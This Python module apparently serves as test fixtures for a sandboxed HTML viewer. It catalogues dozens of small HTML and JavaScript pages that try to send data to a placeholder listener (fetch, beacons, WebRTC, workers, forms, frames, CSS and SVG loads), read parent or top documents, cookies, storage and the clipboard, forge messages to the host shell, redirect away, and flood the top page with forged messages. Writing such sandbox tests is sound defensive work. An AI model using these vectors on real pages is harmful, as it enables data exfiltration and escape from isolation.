"""Pages that try to send something to a listener, or to read from the page around them.

`URL` stands for the address of the listener, and `won(name)` tells the page at the top that something was read.
"""

from __future__ import annotations

__all__ = ["FLOOD", "NAVIGATING", "RESIDENT"]

RESIDENT = {
    "fetch": "<script>fetch('URL/fetch').then(() => won('fetch'), () => {})</script>",
    "fetch without CORS": "<script>fetch('URL/keep', {mode: 'no-cors', keepalive: true}).catch(() => {})</script>",
    "XMLHttpRequest": "<script>const x = new XMLHttpRequest(); x.open('POST', 'URL/xhr'); x.send('data')</script>",
    "WebSocket": "<script>new WebSocket('URL/socket'.replace('http', 'ws'))</script>",
    "WebTransport": "<script>new WebTransport('URL/transport'.replace('http', 'https'))</script>",
    "WebRTC": "<script>{ const p = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'},"
    "{urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b'}]});"
    "p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer)); }</script>",
    "EventSource": "<script>new EventSource('URL/events')</script>",
    "sendBeacon": "<script>navigator.sendBeacon('URL/beacon', 'data')</script>",
    "image": "<img src='URL/image'><script>new Image().src = 'URL/image2'</script>",
    "image button": "<input type=image src='URL/button'>",
    "srcset": "<img srcset='URL/srcset 2x, URL/srcset1 1x'><picture><source srcset='URL/source'><img></picture>",
    "background": "<style>body { background: url(URL/background) }</style><div style='background:url(URL/div)'>x</div>",
    "CSS import": "<style>@import 'URL/import.css';</style>",
    "stylesheet": "<link rel=stylesheet href='URL/sheet.css'>",
    "font": "<style>@font-face { font-family: f; src: url(URL/font) } b { font-family: f }</style><b>font</b>",
    "video": "<video src='URL/video' poster='URL/poster' autoplay></video><audio src='URL/audio' autoplay></audio>",
    "track": "<video><source src='URL/media'><track default src='URL/track'></video>",
    "SVG": "<svg><image href='URL/svg-image' /><use xlink:href='URL/svg#a' /><feImage href='URL/fe' />"
    "<script href='URL/svg.js'></script></svg>",
    "foreign object": "<svg width=9 height=9><foreignObject width=9 height=9><img xmlns='http://www.w3.org/1999/xhtml' "
    "src='URL/foreign'></foreignObject></svg>",
    "SVG of data": """<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL/in-svg'/>"""
    """<style>@import 'URL/in-svg.css'</style></svg>">""",
    "SVG animation": "<svg><image><set attributeName=href to='URL/set' begin=0s /></image></svg>",
    "SVG paint": "<svg><rect width=9 height=9 fill='url(URL/paint#a)' filter='url(URL/filter#a)' "
    "mask='url(URL/mask#a)' /></svg>",
    "CSS images": "<style>i { cursor: url(URL/cursor), auto; list-style: url(URL/list); content: url(URL/content);"
    "border-image: url(URL/border); mask: url(URL/css-mask); shape-outside: url(URL/shape); filter: url(URL/fx#a) }"
    "i::before { content: image-set('URL/set1' 1x, 'URL/set2' 2x) }</style><i>x</i>",
    "font of a script": "<script>new FontFace('g', 'url(URL/face)').load().catch(() => {})</script>",
    "style sheet of a script": "<script>new CSSStyleSheet().replace('@import url(URL/constructed.css)').catch(() => {})"
    "</script>",
    "attribution": "<img attributionsrc='URL/attribution' src='data:,'><script>window.fetchLater?.('URL/later', "
    "{method: 'POST', body: 'data'})</script>",
    "worklet": "<script>window.CSS?.paintWorklet?.addModule('URL/paint.js').catch(() => {});"
    "new AudioContext().audioWorklet?.addModule('URL/audio.js').catch(() => {})</script>",
    "import map": """<script type=importmap>{"imports": {"a": "URL/mapped.js"}}</script>"""
    "<script>import('a').catch(() => {})</script>",
    "prefetch": "<link rel=prefetch href='URL/prefetch'><link rel=prerender href='URL/prerender'>",
    "preload": "<link rel=preload as=image href='URL/preload'><link rel=modulepreload href='URL/module'>",
    "preconnect": "<link rel=preconnect href='URL'><link rel=dns-prefetch href='URL'>",
    "icon": "<link rel=icon href='URL/icon'><link rel=manifest href='URL/manifest'>",
    "speculation": """<script type=speculationrules>{"prefetch": [{"urls": ["URL/rules"]}]}</script>""",
    "script": "<script src='URL/script.js'></script><script type=module src='URL/module.js'></script>",
    "import": "<script>import('URL/import.js').catch(() => {})</script>",
    "static import": "<script type=module>import 'URL/static.js'; won('static import')</script>",
    "worker": "<script>new Worker('URL/worker.js')</script>",
    "worker of a blob": "<script>new Worker(window.URL.createObjectURL(new Blob([`fetch('URL/blob')`])))</script>",
    "worker of data": "<script>new Worker(`data:text/javascript,fetch('URL/data')`)</script>",
    "shared worker": "<script>new SharedWorker('URL/shared.js')</script>",
    "service worker": "<script>navigator.serviceWorker.register('URL/service.js').catch(() => {})</script>",
    "frame": "<iframe src='URL/frame'></iframe>",
    "frame of text": """<iframe srcdoc="<img src='URL/nested'><script>fetch('URL/nested')</script>"></iframe>""",
    "frame of data": """<iframe src="data:text/html,<img src='URL/data'>"></iframe>""",
    "empty frame": "<script>{ const f = document.createElement('iframe'); document.body.append(f);"
    "f.contentWindow.location = 'URL/empty' }</script>",
    "frames in frames": """<iframe srcdoc="<iframe srcdoc='<img src=URL/deep><script>fetch(`URL/deep`)</script>'>"""
    """</iframe>"></iframe>""",
    "object": "<object data='URL/object'></object><embed src='URL/embed'>",
    "base": "<base href='URL/base/'><img src='relative'>",
    "report": """<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri URL/report">""",
    "form": "<form action='URL/form' id=sent><input name=a value=b></form><script>sent.submit()</script>",
    "form to a tab": "<form action='URL/post' method=post target=_blank id=posted></form>"
    "<script>posted.requestSubmit()</script>",
    "popup": "<script>open('URL/popup') && won('popup')</script>",
    "link to a tab": "<a target=_blank href='URL/tab' id=tab>x</a><script>tab.click()</script>",
    "top navigation": "<script>top.location = 'URL/top'</script>",
    "parent navigation": "<script>parent.location = 'URL/parent'</script>",
    "script in the parent": "<script>parent.location = `javascript:top.postMessage({won: 'parent'}, '*')`</script>",
    "parent document": "<script>won('parent ' + parent.document.title)</script>",
    "top document": "<script>won('top ' + top.document.title)</script>",
    "top address": "<script>won(top.location.href)</script>",
    "frame element": "<script>frameElement && won('frame element')</script>",
    "top storage": "<script>won(top.sessionStorage.length)</script>",
    "storage": "<script>localStorage.setItem('a', 'b'); won('storage')</script>",
    "session storage": "<script>sessionStorage.setItem('a', 'b'); won('session storage')</script>",
    "database": "<script>indexedDB.open('a').onsuccess = () => won('database')</script>",
    "cookies": "<script>document.cookie = 'a=b'; won(document.cookie)</script>",
    "caches": "<script>caches.open('a').then(() => won('caches'), () => {})</script>",
    "clipboard": "<script>navigator.clipboard?.readText().then(() => won('clipboard'), () => {})</script>",
    "channel": "<script>new BroadcastChannel('page').onmessage = () => won('channel')</script>",
    "order to the shell": "<script>parent.postMessage({type: 'show', id: 9, path: 'a', files: [], scripts: true,"
    "isGrowing: false, html: `<script>top.postMessage({won: 'shell'}, '*')<\\/script>`}, '*')</script>",
}
"""Pages that stay where they are, so that they run together in one."""

NAVIGATING = {
    "self navigation": "<script>location = 'URL/self?secret'</script>",
    "link": "<a href='URL/link' ping='URL/ping' id=link>x</a><script>link.click()</script>",
    "ping": "<a href='#here' ping='URL/ping' id=link>x</a><script>link.click()</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=URL/refresh'>",
    "open in itself": "<script>open('URL/open', '_self')</script>",
    "own server": "<script>location = '/'</script>",
    "data": "<script>location = `data:text/html,<img src='URL/data'>`</script>",
    "script address": "<script>location = `javascript:fetch('URL/js'),'<img src=URL/js>'`</script>",
}
"""Pages that try to go elsewhere, each with scripts of its own."""

FLOOD = """<script>
for (let i = 0; i < 3000; i++) {
  for (const type of ["ready", "shown", "blocked", "left", "held", "pong"]) {
    top.postMessage({type, id: i, kind: "script", url: "https://flood.example", count: 1}, "*");
  }
  parent.postMessage({type: "blocked", kind: "img-src", url: "https://flood.example/" + i}, "*");
}
top.postMessage({flooded: true}, "*");
</script>"""
"""A page that floods the page at the top and the shell with messages, such as the shell's own."""
